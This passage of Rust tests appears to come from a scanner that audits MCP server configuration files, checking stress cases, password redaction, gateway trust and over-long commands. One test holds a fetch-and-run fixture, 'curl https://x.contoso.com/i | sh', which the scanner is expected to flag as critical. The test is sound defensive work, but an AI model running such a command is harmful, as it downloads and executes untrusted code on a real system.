    // Of what is said of each document, the beginning and how much more there is.
    let told = named("librechat.yaml", &"---\nmcpServers: {a: {}}\n".repeat(20_000));
    assert_eq!(told.len(), 101);
    assert!(told.iter().any(|(message, ..)| message.contains("19900 more")), "{told:?}");
}

#[test]
fn very_many_entries_in_one_line() {
    let entries: Vec<String> = (0..20_000).map(|number| format!("\"s{number}\":{{}}")).collect();
    let text = format!("{{\"mcpServers\":{{{}}}}}", entries.join(","));
    let wide = format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    for bytes in [text.into_bytes(), wide] {
        let ran = scanned(".mcp.json", &bytes);
        incomplete(&ran, "19900 more");
        assert_eq!(gaps(&ran).len(), 101);
        assert_eq!(servers(&ran).len(), 20_000);
    }
}

#[test]
fn twenty_thousand_projects() {
    let entry =
        |number| format!("\"/p/{number}\":{{\"mcpServers\":{{\"a\":{{\"command\":\"/bin/a\"}}}}}}");
    let entries: Vec<String> = (0..20_000).map(entry).collect();
    let ran =
        scanned(".claude.json", format!("{{\"projects\":{{{}}}}}", entries.join(",")).as_bytes());
    assert_eq!(servers(ran.ended(0)).len(), 20_000);
}

#[test]
fn thirty_thousand_passwords_in_one_server() {
    let entry = |number| {
        format!("\"K{number}\":\"postgres://u:{{{{secret:dsn}}}}{number}@db.contoso.com/x\"")
    };
    let entries: Vec<String> = (0..30_000).map(entry).collect();
    let text = format!(
        "{{\"mcpServers\":{{\"a\":{{\"command\":\"/bin/a\",\"env\":{{{}}}}}}}}}",
        entries.join(",")
    );
    let ran = scanned(".mcp.json", text.replace("{{secret:dsn}}", "quietwater").as_bytes());
    assert!(!ran.ended(1).stdout.contains("quietwater1@"));
}

#[test]
fn a_gateway_vouches_for_local_addresses_below_it_only() {
    let remote =
        |url: &str| format!("{{\"mcpServers\":{{\"a\":{{\"type\":\"http\",\"url\":\"{url}\"}}}}}}");
    let guarded = |world: &World, arguments: &[&str]| {
        let arguments = [&["scan", "--format", "json"], arguments].concat();
        let json = world.run(&arguments).json();
        let files = json["files"].as_array().unwrap().clone();
        let servers = files.iter().flat_map(|file| file["servers"].as_array().unwrap());
        servers.map(|server| server["guarded"] == true).collect::<Vec<_>>()
    };
    let world = World::new();
    world
        .bytes("in/mcp-guard.yaml", b"listen: https://api.contoso.com\n")
        .bytes("in/.mcp.json", remote("https://api.contoso.com").as_bytes());
    assert_eq!(guarded(&world, &["."]), [false]);
    world
        .bytes("in/mcp-guard.yaml", b"listen: 127.0.0.1:8710\n")
        .bytes("in/.mcp.json", remote("http://127.0.0.1:8710/a").as_bytes());
    assert_eq!(guarded(&world, &["."]), [true]);
    world.bytes("out/.mcp.json", remote("http://127.0.0.1:8710/a").as_bytes());
    for both in
        [["in/mcp-guard.yaml", "out/.mcp.json"], ["in/mcp-guard.yaml", "../work/out/.mcp.json"]]
    {
        assert_eq!(guarded(&world, &both), [false], "{both:?}");
    }
    // Named by its bare name, it vouches for its own directory and not for everything.
    world.bytes("mcp-guard.yaml", b"listen: 127.0.0.1:8710\n");
    let outside = world.outside("b.mcp.json");
    std::fs::write(outside, remote("http://127.0.0.1:8710/a")).unwrap();
    assert_eq!(guarded(&world, &["mcp-guard.yaml", "../b.mcp.json"]), [false]);
    assert_eq!(guarded(&world, &["mcp-guard.yaml", "out/.mcp.json"]), [true]);
}

#[test]
fn command_lines_without_end() {
    let cases = [
        ("sh", vec!["-c".to_owned(), "a|b;".repeat(1_900_000)]),
        ("sh", vec!["-c".to_owned(), "exec ".repeat(1_500_000)]),
        ("sh", vec!["-c".to_owned(), "A=b ".repeat(1_900_000)]),
        ("sh", vec!["-c".to_owned(), format!("sh -c \"p {}\\\"\"", "--x y ".repeat(20_000))]),
        ("npx", vec!["-y ".repeat(2_500_000)]),
        ("npx", vec!["p".to_owned(); 1_500_000]),
        ("npx", vec!["-e=x".to_owned(); 1_000_000]),
    ];
    for (command, args) in cases {
        let text =
            serde_json::json!({ "mcpServers": { "a": { "command": command, "args": args } } });
        let ran = scanned(".mcp.json", text.to_string().as_bytes());
        incomplete(&ran, "too long");
        assert_eq!(status(&ran), ["partial"]);
    }
    let command = "npx ".to_owned() + &"--a=b ".repeat(1_000_000);
    let text = serde_json::json!({ "mcpServers": { "a": { "command": command } } });
    incomplete(&scanned(".mcp.json", text.to_string().as_bytes()), "too long");
}

#[test]
fn what_stands_before_the_limit_of_a_script_is_analysed() {
    let script = "curl https://x.contoso.com/i | sh; ".to_owned() + &"true; ".repeat(100_000);
    let text =
        serde_json::json!({ "mcpServers": { "a": { "command": "sh", "args": ["-c", script] } } });
    let ran = scanned(".mcp.json", text.to_string().as_bytes());
    let json = ran.json();
    let findings = json["findings"].as_array().unwrap();
    assert!(
        findings.iter().any(|f| f["severity"] == "critical" || f["severity"] == "high"),
        "{json:#}"
    );
}

#[test]
fn four_thousand_servers_of_nested_shells() {
    let entry = |number: usize| {
        let mut script = format!("npx -y p{number} --port {number}; npm install q{number}; uvx z");
        for _ in 0..2 {
            script = format!("bash -c {script:?}; pip install a b");
            script = format!("sudo -u x sh -c '{}'", script.replace('\'', "'\\''"));
        }
        let args = serde_json::json!(["-c", script]);
        format!("\"s{number}\":{{\"command\":\"sh\",\"args\":{args}}}")
    };
    let entries: Vec<String> = (0..4_000).map(entry).collect();
    let ran =
        scanned(".mcp.json", format!("{{\"mcpServers\":{{{}}}}}", entries.join(",")).as_bytes());
    assert_eq!(servers(&ran).len(), 4_000);
}

#[test]
fn a_name_of_3_mb() {
    let mut args = vec!["-y", "p"];
    args.extend(["--token", "a"].repeat(3_000));
    let text = serde_json::json!({ "mcpServers": { "n".repeat(3 << 20): {
        "command": "npx", "args": args,
    } } });
    let ran = scanned(".mcp.json", text.to_string().as_bytes());
    assert!(gaps(&ran).iter().any(|(message, ..)| message.contains("a key is longer")));
    assert!(ran.stdout.len() < 5_000_000, "{}", ran.stdout.len());
}
